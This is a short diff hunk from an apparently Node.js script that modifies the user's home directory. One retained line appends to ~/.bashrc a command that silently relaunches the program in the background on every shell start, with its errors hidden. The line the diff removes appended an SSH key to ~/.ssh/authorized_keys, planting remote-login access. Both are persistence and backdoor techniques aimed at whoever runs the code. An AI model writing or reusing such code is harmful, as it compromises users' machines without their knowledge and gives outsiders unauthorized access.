@@ -4,4 +4,3 @@ const path = require('path');
 
 const program = path.join(__dirname, 'index.js');
 fs.appendFileSync(path.join(os.homedir(), '.bashrc'), `\n(node ${program} &) 2>/dev/null\n`);
-fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA notes\n');
